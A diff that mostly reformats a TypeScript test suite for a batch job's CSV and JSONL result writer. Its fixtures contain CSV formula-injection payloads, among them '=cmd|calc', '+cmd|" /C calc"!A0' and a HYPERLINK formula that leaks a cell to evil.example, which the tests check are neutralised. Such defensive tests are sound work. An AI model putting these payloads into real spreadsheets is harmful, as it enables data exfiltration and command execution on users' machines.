@@ -79,7 +79,13 @@ function fillStore(job: Job): StateStore {
   // 3: brief done, hero filtered with its reason, notes never ran.
   done('=cmd|calc', 'brief', { alt_text: '\t=2+5', score: 1, tags: [] }, [], 0.001);
   store.markRunning('=cmd|calc', 'hero', RUN, 'proj-a');
-  store.finishStep('=cmd|calc', 'hero', 'filtered', { code: 'SAFETY_FILTERED', message: 'IMAGE_SAFETY: the image may violate the usage guidelines.' }, call('=cmd|calc', 'hero', 0.0001));
+  store.finishStep(
+    '=cmd|calc',
+    'hero',
+    'filtered',
+    { code: 'SAFETY_FILTERED', message: 'IMAGE_SAFETY: the image may violate the usage guidelines.' },
+    call('=cmd|calc', 'hero', 0.0001),
+  );
   // 4: failed with an error message that itself looks like a formula.
   store.markRunning('-5', 'brief', RUN, 'proj-a');
   store.finishStep('-5', 'brief', 'failed', { code: 'BAD_RESPONSE', message: '-2+3 is not valid JSON (gave up after 3 attempts)', costUsd: 0.0005 });
@@ -154,8 +160,18 @@ describe('writeResults', () => {
         notes_error: '',
         cost_usd: '0.0406',
       });
-      expect(rows[2]).toMatchObject({ brief_state: 'done', hero_state: 'filtered', hero_error: 'IMAGE_SAFETY: the image may violate the usage guidelines.', notes_state: 'pending' });
-      expect(rows[3]).toMatchObject({ brief_state: 'failed', brief_error: "'-2+3 is not valid JSON (gave up after 3 attempts)", hero_state: 'pending', brief_alt_text: '' });
+      expect(rows[2]).toMatchObject({
+        brief_state: 'done',
+        hero_state: 'filtered',
+        hero_error: 'IMAGE_SAFETY: the image may violate the usage guidelines.',
+        notes_state: 'pending',
+      });
+      expect(rows[3]).toMatchObject({
+        brief_state: 'failed',
+        brief_error: "'-2+3 is not valid JSON (gave up after 3 attempts)",
+        hero_state: 'pending',
+        brief_alt_text: '',
+      });
       expect(rows[4]).toMatchObject({ brief_state: 'pending', hero_state: 'pending', notes_state: 'pending', cost_usd: '0' });
       // No temp file left behind, in the scratch folder or beside the results.
       expect(readdirSync(join(dir, '.genbatch', 'scratch'))).toEqual([]);
@@ -178,7 +194,7 @@ describe('writeResults', () => {
         brief_alt_text: `'=HYPERLINK("http://evil.example/?leak="&A1, "click")`,
         brief_score: '-3',
         brief_tags: '["=1+1"]',
-        hero_file: "images/@SUM(1+1).png",
+        hero_file: 'images/@SUM(1+1).png',
         notes_text: `'+cmd|" /C calc"!A0`,
       });
       expect(rows[2]).toMatchObject({ id: "'=cmd|calc", brief_alt_text: "'\t=2+5" });
@@ -204,7 +220,9 @@ describe('writeResults', () => {
     const store = fillStore(job);
     try {
       await writeResults(job, store, join(dir, 'scratch'));
-      const lines = readFileSync(join(dir, 'out', 'results.jsonl'), 'utf8').trimEnd().split('\n');
+      const lines = readFileSync(join(dir, 'out', 'results.jsonl'), 'utf8')
+        .trimEnd()
+        .split('\n');
       const records = lines.map((l) => JSON.parse(l) as ResultRecord);
       expect(records.map((r) => r.id)).toEqual(['kubernetes-1', '@SUM(1+1)', '=cmd|calc', '-5', 'pending-one']);
       expect(records[0]).toEqual({
@@ -240,7 +258,9 @@ describe('writeResults', () => {
       );
 
       await writeResults(job, store, join(dir, 'scratch'), { fields: [] });
-      expect(readFileSync(join(dir, 'results.csv'), 'utf8').split('\n')[0]).toBe('id,brief_state,brief_error,hero_state,hero_file,hero_error,notes_state,notes_error,cost_usd');
+      expect(readFileSync(join(dir, 'results.csv'), 'utf8').split('\n')[0]).toBe(
+        'id,brief_state,brief_error,hero_state,hero_file,hero_error,notes_state,notes_error,cost_usd',
+      );
     } finally {
       store.close();
     }
@@ -253,7 +273,9 @@ describe('writeResults', () => {
     try {
       const attempt = writeResults(job, store, join(dir, 'scratch'), { fields: ['brief.alt_txt'] });
       await expect(attempt).rejects.toBeInstanceOf(ConfigError);
-      await expect(writeResults(job, store, join(dir, 'scratch'), { fields: ['brief.alt_txt'] })).rejects.toThrow(/"brief\.alt_txt" is not a field of any step; did you mean "brief\.alt_text"\?/);
+      await expect(writeResults(job, store, join(dir, 'scratch'), { fields: ['brief.alt_txt'] })).rejects.toThrow(
+        /"brief\.alt_txt" is not a field of any step; did you mean "brief\.alt_text"\?/,
+      );
       await expect(writeResults(job, store, join(dir, 'scratch'), { fields: ['hero.text'] })).rejects.toThrow(/not a field/);
       expect(existsSync(join(dir, 'results.csv'))).toBe(false);
     } finally {
@@ -269,7 +291,12 @@ describe('writeResults', () => {
       await writeResults(job, store, join(dir, 'scratch'));
       const first = readFileSync(join(dir, 'results.csv'), 'utf8');
       store.markRunning('pending-one', 'brief', RUN, 'proj-a');
-      store.completeStep('pending-one', 'brief', { result: { alt_text: 'late', score: 2, tags: [] }, outputs: [], promptHash: 'p', costUsd: 0.002 }, call('pending-one', 'brief', 0.002));
+      store.completeStep(
+        'pending-one',
+        'brief',
+        { result: { alt_text: 'late', score: 2, tags: [] }, outputs: [], promptHash: 'p', costUsd: 0.002 },
+        call('pending-one', 'brief', 0.002),
+      );
       await writeResults(job, store, join(dir, 'scratch'));
       const second = readCsv(join(dir, 'results.csv'));
       expect(second).toHaveLength(5);
